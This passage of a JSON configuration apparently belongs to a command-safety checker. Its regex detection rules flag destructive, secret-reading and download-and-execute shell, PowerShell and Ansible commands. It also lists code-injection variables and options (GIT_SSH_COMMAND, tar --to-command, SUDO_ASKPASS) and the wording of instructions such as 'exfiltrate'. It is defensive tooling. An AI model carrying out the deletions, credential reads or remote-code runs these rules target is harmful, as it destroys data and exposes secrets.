+[^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$\
+":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+\
+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0\
+,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,\
+()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break\
+|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\\
+w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\\
+"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpo\
+int))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf\
+(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\\
+"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\
+\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{\
+0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-\
+ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|S\
+et-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\
+\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\
+\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|\
+,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTim\
+e|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']\
+?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|\
+rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\\
+"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|red\
+is-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\
+\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w\
++|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy\
+(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S\
+]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscript\
+block\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\
+\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-\
+match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variables":["MANPAGER","PAGER"]},"wha\
+tis":{"variables":["MANPAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"variables":["LESSOPEN","LESSCLOSE",\
+"LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"variables":["SYSTEMD_PAGER","SYSTEM\
+D_EDITOR","PAGER"]},"systemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"ti\
+medatectl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"variables":["SUDO_EDITO\
+R","VISUAL","EDITOR"]},"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"variables":["SUDO_\
+EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"variables":["KUBE_EDITOR","EDIT\
+OR"]},"oc":{"variables":["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDI\
+TOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"psql":{"vari\
+ables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mariadb":{"variable\
+s":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg":{"variables":["HG\
+EDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"delt\
+a":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp":{"variables":["SSH_ASKPASS"]\
+},"ssh-add":{"variables":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"variables":["CVS_RSH","CVSEDITOR\
+","EDITOR"]}},"git_variables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","GIT_PROXY_COMMAND",\
+"EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"short":"","long":["tree-filter\
+","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index-filter","env-filter","msg-fil\
+ter","parent-filter","commit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},"fetch":{"short":"","long":["u\
+pload-pack"],"code":["upload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long":["upload-pack"],"code":["u","\
+upload-pack"]},"ls-remote":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["receive-pack","exec"],"code":["r\
+eceive-pack","exec"]},"archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"code":["open-files-in-pager"]}},\
+"code_options":{"tar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I"\
+,"F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"bsdtar":{"sh\
+ort":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","\
+to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF","long":["checkpoin\
+t-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-pr\
+ogram","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval-command"],"code":["ex","eval-\
+command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""},"concurrently":{"\
+short":"ncpm","long":["names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","rsync-path"]},"scp":{"short":"\
+cFiJloPS","code":["S"]},"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"man":{"short":"PHLm","long":["pager","html"],"code":["P","pager","H\
+","html"]},"ansible":{"short":"aimuf","long":["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","syntax-check","list-hosts"]},"\
+ansible-playbook":{"short":"ielftu","long":["inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vault-password-file","start-at-tas\
+k"],"unless":["check","C","syntax-check","list-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t\
+]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\\
+{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})"],"rm -r $":["\\\
+\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\\
+n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:path|dest)[=:][ \\\\t]*\
+[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(\
+?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|\
+/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcoll\
+ection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|e\
+c2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongodb\
+_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:(?:kubernetes\\\\.co\
+re|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|\
+mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.\
+)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $":["\\\\b(?:(?:ansibl\
+e\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t\
+]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"systemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?(?:service|systemd\
+(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+nam\
+e:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*(?!\
+[|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[ \\\\t]*[|>][-+]?[ \\\
+\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*(?:r|read|pu|put|n\
+orm|normal|append|setline|readfile)\\\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?:%\
+|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"']\
+([^\\"'|]+)[\\"']"]}},"terraform":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"tofu":{"does\
+":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform output -raw secret\
+":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","exec"]},"nix-shell":{"short":"p\
+AI","long":["run","command"],"code":["run","command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names":["format","pretty"]},"curl":{\
+"short":"woXHdFuAebcT","long":["write-out","output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","format"],"unread":"=[\\\\s\\\\S]*[^\\\\w,\
+=%:]"},"numfmt":{"short":"d","long":["format","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unread":"^(?!(?:(?:-?\
+\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?:\
+json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"short":"f","long":[\
+"format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[n\
+t]|[\\\\s,:=|-])*$)"},"kubectl":{"short":"on","long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(?:\
+\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path","ipath","wholename","iwholena\
+me","regex","iregex","lname","ilname","type","xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","cnewer","user","group","uid","\
+gid","perm","links","inum","samefile","context","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","files0-from"]},"editor":{"short":"\
+cS","long":["cmd"],"permuted":true},"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","user","workdir","de\
+tach-keys","name","volume","mount","network","publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns","expose","gpus",\
+"group-add","hostname","ip","ipc","link","log-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size","stop-signal","tm\
+pfs","ulimit","userns","volumes-from","cgroupns","host","context","config","file","project-name","profile","project-directory","namespace","container","index","\
+kubeconfig","cluster","as","image","target"]},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":true},"request":{"s\
+hort":"oHdXAFuTebKCmxEywzU","long":["d","data","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-data","header","request","user","\
+output","form","url","user-agent"],"permuted":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"screen":{"short":"SscehpTt"},"git":{"short":\
+"Cc","long":["git-dir","work-tree","namespace","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":"efl","long":["expression","fi\
+le","line-length"],"permuted":true},"xargs":{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs","max-chars","process-slot-var"\
+]},"parallel":{"short":"jNnLSIaCEPsd","long":["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file","colsep","delay","timeout","\
+joblog","results","retries","workdir","wd","tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","return","trc","env","profile","tag\
+string","tmux","block","recstart","recend","shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"shell":{"short":"oO","long":["rcf\
+ile","init-file","emulate"]},"fish":{"short":"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-output","profile","profile-start\
+up"]},"make":{"short":"fCIjlo","long":["file","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":["justfile","working-directory"\
+,"set"]},"transfer":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"permuted":true},"grep":{"short":"efmABC","long":["regexp","file","max-count","include","excl\
+ude","exclude-dir","color","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/bin/bash","TMPDIR":"/tmp","?":"\
+0","!":"%%","$":"7340281946"},"make_variables":{"HOME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E":\
+"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t","v":"\\u000b"},"character_classes":{"upper":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9","\
+space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm":{"only":["delete-machine","delete-system-file","delete-workspace","delete-vcs"]},"chmod":{"only":["change-rights-o\
+f-machine"]},"dd":{"only":["overwrite-disk"]},"git":{},"kubectl":{},"terraform":{},"docker":{},"aws":{}}},"sentences":{"before_order":["please","then","next","n\
+ow","first","second","third","finally","lastly","also","just","simply","and","so","ok","okay","well","afterwards","afterward","after","that","immediately","quic\
+kly","silently","quietly","permanently","completely","forcefully","forcibly","recursively","always","go","ahead","kindly","step","todo","task","goal","plan","ob\
+jective","instruction","instructions:","->","=>","-","*","once","done","from","here","on","to","be","safe","start","by","begin","in","order","bitte","erst","dan\
+n","danach","jetzt","nun","zuerst","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00dflich","puis","ensuite","maintenant","luego","ahora","primero","despu\\u00e9s"\
+,"por","favor"],"between":["just","then","also","now","first","simply","really","definitely","quickly","completely","permanently","forcefully","forcibly","recur\
+sively","immediately","silently","quietly","safely","manually","please","go","ahead","and","finally","probably","simply","again","all"],"denials":["not","don't"\
+,"dont","never","no","nor","without","avoid","cannot","can't","cant","won't","wont","shouldn't","mustn't","doesn't","didn't","wouldn't","couldn't","isn't","aren\
+'t","refuse","refuses","refusing","prevent","prevents","preventing","forbid","forbids","forbidden","prohibit","prohibits","prohibited","disallow","disallowed","\
+block","blocks","blocking","blocked","stop","stops","protect","protects","against","unless","warn","warns","rather","instead","neither","hardly","nothing","nobo\
+dy","ne"],"ends_denial":["but","instead","just","rather","simply","only"],"speech_verbs":["explain","explains","document","documents","describe","describes","di\
+scuss","mention","mentions","note","notes","review","reviews","summarize","summarise","clarify","investigate","analyze","analyse","research","check","verify","c\
+onfirm","ask","consider","compare","evaluate","test","tests","cover","fix","fixes","rename","refactor","detect","detects","reject","rejects","report","reports",\
+"flag","flags","catch","catches","grep","search","look","find","understand","teach","highlight","reword","rewrite-docs","translate","list","suggests","assert","\
+handle","handles"],"predicates":["is","are","was","were","isn't","aren't","wasn't","can","can't","may","might","would","could","should","has","had","does","does\
+n't","returns","fails","failed","throws","breaks","broke","causes","caused","shows","requires","takes","works","happens","leads","means","seems","appears","cras\
+hes","crashed","hangs","deletes","removes","looks","becomes","gets"],"subjects":["the","this","that","these","those","it","a","an","users","they","he","she","th\
+ere","some","if","when"],"relative":["that","which","what","who","someone","somebody","anyone","anybody","where","it","there","they","we","i","you","whatever","\
+everything"],"creation_verbs":["create","write","make","build","generate","develop","craft","prepare","produce"],"program":["script","program","command","one-li\
+ner","code","function","file","process","tool","job","playbook"],"passes_on":["post","posting","send","sending","upload","uploading","mail","email","share","pub\
+lish","leak","forward","paste","push","copy","dump","transmit","exfiltrate"],"pronouns":["it","them"],"one_of":["each","every"],"heads":["key","secret","credent\
+ial","password","one"],"overwrites":["overwrite","overwriting","clobber","replace"],"doubled":["drop","zip","wget","put","set","shut","rm","get","plug","ship","\
+scrub","grab","cat","log","strip","zap","stop","commit","reset","run","submit"],"run_verbs":["run","execute","use","do","invoke","call","type","issue","launch",\
+"try","start","perform","enter","apply"],"mentions":["dangerous","destructive","harmful","unsafe","bad","example","examples","e.g","denied","disallowed","risky"\
+,"don'ts","banned","anti-pattern","anti-patterns","error","errors","log","logs","output","diff","changelog","test","tests","case","cases","document","documents"\
+,"documentation","docs","reported","reports","says","said","bug","reproduce","repro","expected","actual","observed","quote"],"separates":["not","never","instead\
